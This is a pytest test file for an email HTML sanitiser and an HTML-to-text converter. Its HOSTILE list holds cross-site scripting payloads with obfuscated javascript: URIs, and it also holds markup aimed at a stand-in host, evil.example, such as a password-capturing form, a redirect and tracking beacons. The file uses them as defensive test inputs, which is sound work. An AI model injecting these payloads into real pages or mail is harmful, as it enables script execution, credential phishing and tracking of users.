"""Inbound HTML loses everything that runs, restyles or phones home."""

from __future__ import annotations

import pytest

from jietong.channels.email.htmltext import html_to_text
from jietong.channels.email.sanitize import sanitise_html

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    "<style>body{background:url(https://evil.example/bg)}</style>",
    '<div style="background-image:url(https://evil.example/t.gif)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">fake login</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<table background="https://evil.example/t.gif"><tr><td>x</td></tr></table>',
    '<img srcset="https://evil.example/a.png 1x">',
    '<a href="/api/v1/users">relative into our app</a>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
]
FORBIDDEN = (
    "<script",
    "onerror",
    "onload",
    "javascript:",
    "data:",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "style=",
    "<style",
    "<link",
    "<meta",
    "<base",
    "background=",
    "srcset",
    "evil.example",
    "/api/v1",
    "<svg",
    "<math",
)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_markup_does_not_survive(html: str) -> None:
    cleaned = sanitise_html(html).html.lower()
    for marker in FORBIDDEN:
        assert marker not in cleaned, (html, cleaned)


def test_remote_images_are_removed_and_counted_inline_images_kept() -> None:
    result = sanitise_html(
        '<p>Hi</p><img src="https://t.example/p.gif" width="1"><img src="HTTP://t.example/2">'
        '<img src="cid:logo@x" alt="logo">'
    )
    assert result.remote_images_blocked == 2
    assert "t.example" not in result.html
    assert '<img src="cid:logo@x" alt="logo">' in result.html


def test_reading_structure_and_safe_links_survive() -> None:
    html = (
        '<div><b>粗体</b> <i>斜体</i><ul><li>一</li></ul><table><tr><td colspan="2">格</td>'
        '</tr></table><blockquote>引用</blockquote><a href="https://example.com/x">链接</a>'
        '<a href="mailto:a@b.c">mail</a></div>'
    )
    cleaned = sanitise_html(html).html
    for kept in ("<b>粗体</b>", "<li>一</li>", 'colspan="2"', "<blockquote>引用</blockquote>"):
        assert kept in cleaned
    assert 'href="https://example.com/x"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_html_to_text_keeps_lines_lists_quotes_and_skips_scripts() -> None:
    text = html_to_text(
        "<html><head><title>T</title><style>p{}</style></head><body>"
        "<p>第一段&nbsp;文字</p><p>Second<br>line</p><ul><li>a</li><li>b</li></ul>"
        "<blockquote>older<blockquote>oldest</blockquote></blockquote>"
        "<script>var secret=1</script></body></html>"
    )
    assert text == "第一段 文字\n\nSecond\nline\n\n- a\n- b\n> older\n> > oldest"


def test_an_unclosed_head_does_not_hide_the_body() -> None:
    assert html_to_text("<html><head><title>x<body><p>visible</p>") == "visible"
